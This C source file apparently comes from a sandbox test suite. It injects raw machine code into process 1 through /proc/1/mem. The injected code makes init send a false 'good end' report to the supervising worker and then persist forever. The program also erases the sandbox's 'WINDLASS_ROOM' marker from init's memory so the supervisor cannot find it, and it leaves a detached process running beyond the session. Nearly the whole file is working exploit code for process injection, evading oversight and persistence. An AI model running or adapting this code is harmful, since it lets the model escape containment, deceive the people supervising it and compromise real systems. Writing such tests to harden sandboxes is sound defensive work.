/* Puts a program into process 1 that reports a good end to the worker, wipes every trace of the room, and stays for ever. */
#include "attack.h"

/* The number of the descriptor by which process 1 reports the end. */
static int report_of_init(void) {
  char path[64], target[64];
  for (int fd = 3; fd < 64; fd++) {
    snprintf(path, sizeof path, "/proc/1/fd/%d", fd);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length <= 0) continue;
    target[length] = 0;
    if (strstr(target, "[eventfd]") != NULL) return fd;
  }
  return -1;
}

/* The worker looks for its rooms by a variable: no process of this room has it any more. */
static void wipe_environment(int memory) {
  char line[512], bytes[4096];
  unsigned long start, end;
  FILE *maps = fopen("/proc/1/maps", "r");
  while (fgets(line, sizeof line, maps) != NULL) {
    if (strstr(line, "[stack]") == NULL || sscanf(line, "%lx-%lx", &start, &end) != 2) continue;
    for (unsigned long at = start; at < end; at += sizeof bytes) {
      if (pread(memory, bytes, sizeof bytes, at) != sizeof bytes) continue;
      for (char *mark = bytes; (mark = memmem(mark, bytes + sizeof bytes - mark, "WINDLASS_ROOM", 13)) != NULL;)
        memset(mark, 'x', 13);
      pwrite(memory, bytes, sizeof bytes, at);
    }
  }
}

int main(void) {
#ifdef __x86_64__
  /* prctl(PR_SET_PDEATHSIG, 0); setsid(); write(report, &one, 8); for (;;) pause(); */
  unsigned char code[] = {
      0xb8, 157, 0, 0, 0, 0xbf, 1, 0, 0, 0, 0x31, 0xf6, 0x0f, 0x05,
      0xb8, 112, 0, 0, 0, 0x0f, 0x05,
      0x6a, 1, 0x48, 0x89, 0xe6, 0xbf, 0, 0, 0, 0, 0xba, 8, 0, 0, 0, 0xb8, 1, 0, 0, 0, 0x0f, 0x05,
      0xb8, 34, 0, 0, 0, 0x0f, 0x05, 0xeb, 0xf7,
  };
  const size_t report_at = 27;
  char words[512] = "";
  int report = report_of_init();
  if (report < 0) refused("process 1 has no way to report an end");
  code[report_at] = report;
  int memory = open("/proc/1/mem", O_RDWR);
  FILE *now = fopen("/proc/1/syscall", "r");
  if (memory < 0 || now == NULL || fgets(words, sizeof words, now) == NULL) refused("open /proc/1/mem");
  unsigned long at = strtoul(strrchr(words, ' '), NULL, 16);
  if (fork() == 0) { /* and it leaves somebody in there who works on */
    setsid();
    clearenv();
    for (int fd = 0; fd < 64; fd++) close(fd);
    if (fork() == 0) execle("/bin/sleep", "sleep", "300", NULL, (char *[]){NULL});
    _exit(0); /* process 1 waits for orphans: when this one dies it wakes up, and finds the new code */
  }
  wipe_environment(memory);
  if (pwrite(memory, code, sizeof code, at) != sizeof code) refused("write /proc/1/mem");
  if (fork() == 0) {
    if (fork() == 0) _exit(0);
    _exit(0);
  }
  sleep(60);
  refused("nothing happened");
#else
  refused("there is no such program for this machine");
#endif
}
